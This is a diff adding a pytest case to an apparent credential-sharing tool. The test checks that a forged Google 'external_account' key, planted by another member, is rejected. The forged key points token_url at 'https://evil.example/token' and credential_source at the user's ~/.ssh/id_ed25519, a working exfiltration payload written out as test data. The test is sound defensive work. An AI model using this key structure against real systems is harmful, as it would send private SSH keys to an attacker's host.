@@ -1,6 +1,7 @@
 """Case 77: what another member wrote into a shared record is decoded before anything is done with it."""
 
 import json
+from base64 import b64encode
 from collections.abc import Callable, Mapping
 
 import pytest
@@ -12,6 +13,7 @@ from nexcred.services.exporting.formats import FORMATS
 from tests.forging import write_details_as
 from tests.opened import Opened
 from tests.people import invite
+from tests.standins.google import service_account
 
 GOOD: Mapping[str, Value] = {
     "host": "db.example.com",
@@ -152,3 +154,31 @@ def test_a_program_gets_nothing_of_it_either(opened: Opened, mallory: Opened, mo
     for use in (lambda: credential.fields["host"], credential.env, credential.session, credential.token):
         with pytest.raises(Tampered):
             use()
+
+
+@pytest.mark.parametrize("encode", [str, lambda text: b64encode(text.encode()).decode()], ids=["JSON", "base64"])
+@pytest.mark.parametrize("connector", ["gcs", "bigquery"])
+def test_a_key_file_has_no_library_read_files(opened: Opened, connector: str, encode: Callable[[str], str]) -> None:
+    """Google's go by the type: this one would send the file, as a token, to the address."""
+    key = service_account("https://oauth2.googleapis.com/token")
+    theirs = {
+        **key,
+        "type": "external_account",
+        "token_url": "https://evil.example/token",
+        "credential_source": {"file": str(opened.home / ".ssh" / "id_ed25519")},
+    }
+    added = opened("add", connector, "files", "--set", "service_account_key=-", "--no-probe", stdin=dumped(key))
+    assert added.code == 0, added.err
+    mallory = invite(opened, "mallory", "--role", "member")
+    assert opened("share", "files", "--with", "mallory").code == 0
+    forged = Secret(encode(json.dumps(theirs)))
+    write_details_as(mallory, "files", lambda one: with_values(one, service_account_key=forged))
+    ran = opened("run", "-c", "files", "--", "sh", "-c", "cat $GOOGLE_APPLICATION_CREDENTIALS")
+    assert (ran.code, ran.out) == (125, "")
+    assert "service_account_key holds another type than service_account" in ran.err
+    refused = opened("add", connector, "own", "--set", "service_account_key=-", "--no-probe", stdin=dumped(theirs))
+    assert (refused.code, opened.names) == (2, ["files"])
+
+
+def dumped(document: object) -> bytes:
+    return json.dumps(document).encode()
